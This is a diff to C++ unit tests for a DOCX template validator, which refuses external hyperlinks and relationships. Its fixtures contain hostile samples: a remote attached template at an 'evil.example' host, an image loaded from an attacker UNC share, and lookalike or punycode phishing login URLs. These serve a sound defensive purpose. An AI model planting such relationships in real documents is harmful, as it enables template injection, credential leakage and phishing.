@@ -129,16 +129,41 @@ TEST(TemplatePackage, DtdAndEntitiesInAnyXmlPart) {
   EXPECT_EQ(issues[2].part, "word/styles.xml");
 }
 
-TEST(TemplatePackage, ExternalRelationshipsButHyperlinks) {
+TEST(TemplatePackage, ExternalRelationshipsAndHyperlinksAreRefused) {
   std::string rels =
       R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)"
-      R"(<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://chinhphu.vn" TargetMode="External"/>)"
+      R"(<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://chinhphu.vn.example/dang-nhap" TargetMode="External"/>)"
       R"(<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>)"
       R"(<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="\\attacker\share\a.png" TargetMode="External"/>)"
+      R"(<Relationship Id="rId4" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>)"
       R"(</Relationships>)";
-  auto issues = check_package(make_docx(para("x"), {{"word/_rels/settings.xml.rels", rels}}));
-  ASSERT_EQ(codes(issues), (std::vector<std::string>{"external_relationship", "external_relationship"}));
-  EXPECT_NE(issues[0].message.find("evil.example"), std::string::npos);
+  auto issues = check_package(make_docx(para("x"), {{"word/_rels/document.xml.rels", rels}}));
+  ASSERT_EQ(codes(issues), (std::vector<std::string>{"external_link", "external_relationship", "external_relationship"}));
+  EXPECT_EQ(issues[0].part, "word/document.xml") << "the part holding the link, not its .rels";
+  EXPECT_NE(issues[0].message.find("Phần word/document.xml"), std::string::npos) << issues[0].message;
+  EXPECT_NE(issues[0].message.find("“https://chinhphu.vn.example/dang-nhap”"), std::string::npos) << issues[0].message;
+  EXPECT_NE(issues[1].message.find("evil.example"), std::string::npos);
+}
+
+TEST(TemplatePackage, ALinkIsRefusedWhateverItsTargetModeSaysAndItsTargetIsShortened) {
+  const std::string url = "https://xn--chnhph-7va.example/" + std::string(300, 'a');
+  std::string rels =
+      R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)"
+      R"(<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target=")" +
+      url + R"("/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="mailto:vanthu@example.vn"/>)"
+      R"(</Relationships>)";
+  auto issues = check_package(make_docx(para("x"), {{"word/_rels/footer1.xml.rels", rels}, {"word/footer1.xml", header_xml("ftr", "")}}));
+  ASSERT_EQ(codes(issues), (std::vector<std::string>{"external_link", "external_link"}));
+  EXPECT_EQ(issues[0].part, "word/footer1.xml");
+  EXPECT_NE(issues[0].message.find(url.substr(0, 150)), std::string::npos);
+  EXPECT_EQ(issues[0].message.find(url), std::string::npos) << "shortened";
+  EXPECT_NE(issues[0].message.find("…"), std::string::npos);
+}
+
+TEST(TemplatePackage, ALinkToAPlaceInTheDocumentIsFine) {
+  std::string body = "<w:p><w:bookmarkStart w:id=\"0\" w:name=\"phu_luc\"/><w:r><w:t>Phụ lục</w:t></w:r><w:bookmarkEnd w:id=\"0\"/></w:p>"
+                     "<w:p><w:hyperlink w:anchor=\"phu_luc\" w:history=\"1\"><w:r><w:t>{xem}</w:t></w:r></w:hyperlink></w:p>";
+  EXPECT_EQ(codes(check_package(make_docx(body))), std::vector<std::string>{});
 }
 
 TEST(TemplatePackage, SkeletonPartsMustBeThere) {
